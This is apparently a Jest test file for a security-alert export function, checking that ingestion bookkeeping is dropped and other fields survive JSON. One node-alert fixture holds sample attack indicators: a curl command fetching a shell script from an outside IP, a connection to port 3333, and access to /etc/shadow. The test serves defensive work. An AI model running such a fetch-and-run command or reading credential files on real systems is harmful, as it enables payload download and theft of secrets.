import { type Alert } from '../../../../shared/alerts/alert';
import { toExportedAlert } from '../../../../shared/alerts/export/exportedAlert';
import { nodeAlert, templateAlert } from '../../../support/alertFixtures';

function ingestedAlert(): Alert {
  return { ...templateAlert(), version: 3, lastModifiedUtc: '2026-11-02T12:30:00.000Z', ingestedThrough: { 'audit/0': 41, 'audit/1': 7 } };
}

describe('toExportedAlert', () => {
  it('when the alert carries ingestion bookkeeping, then the export leaves it out', () => {
    const exported = toExportedAlert(ingestedAlert());
    expect('ingestedThrough' in exported).toBe(false);
    expect(JSON.stringify(exported)).not.toContain('ingestedThrough');
  });

  it('when an alert is exported, then every other field is kept with its value', () => {
    const alert = ingestedAlert();
    const { ingestedThrough: _ingestedThrough, ...expected } = alert;
    const exported = toExportedAlert(alert);
    expect(exported).toEqual(expected);
    expect(Object.keys(exported).sort()).toEqual(Object.keys(alert).filter((key) => key !== 'ingestedThrough').sort());
    expect([exported.id, exported.version, exported.lastModifiedUtc]).toEqual([alert.id, 3, '2026-11-02T12:30:00.000Z']);
  });

  it('when a node alert is exported, then its node entities keep every field (host, process role, pid, command line, port) through JSON', () => {
    const alert: Alert = { ...nodeAlert({ remote: { address: '198.51.100.7', port: 3333 }, filePath: '/etc/shadow' }), ingestedThrough: { 'node/0': 3 } };
    const { ingestedThrough: _ingestedThrough, ...expected } = alert;
    const exported = JSON.parse(JSON.stringify(toExportedAlert(alert))) as unknown;
    expect(exported).toEqual(expected);
    expect(exported).toMatchObject({
      extendedProperties: { signal: 'node', node: 'aks-nodepool1-12345678-vmss000000', eventType: 'process_exec', namespace: 'shop', pod: 'web-7d4b9c6f5-x2x9k' },
      entities: expect.arrayContaining([
        { type: 'host', name: 'aks-nodepool1-12345678-vmss000000' },
        { type: 'process', name: '/usr/bin/curl', commandLine: '/usr/bin/curl -s http://203.0.113.50/x.sh', role: 'process', hostName: 'aks-nodepool1-12345678-vmss000000', processId: 4242 },
        { type: 'ip', address: '198.51.100.7', port: 3333 },
        { type: 'file', name: '/etc/shadow', hostName: 'aks-nodepool1-12345678-vmss000000' },
      ]) as unknown,
    });
  });

  it('when an alert is exported, then the alert itself keeps its bookkeeping', () => {
    const alert = ingestedAlert();
    toExportedAlert(alert);
    expect(alert.ingestedThrough).toEqual({ 'audit/0': 41, 'audit/1': 7 });
  });
});
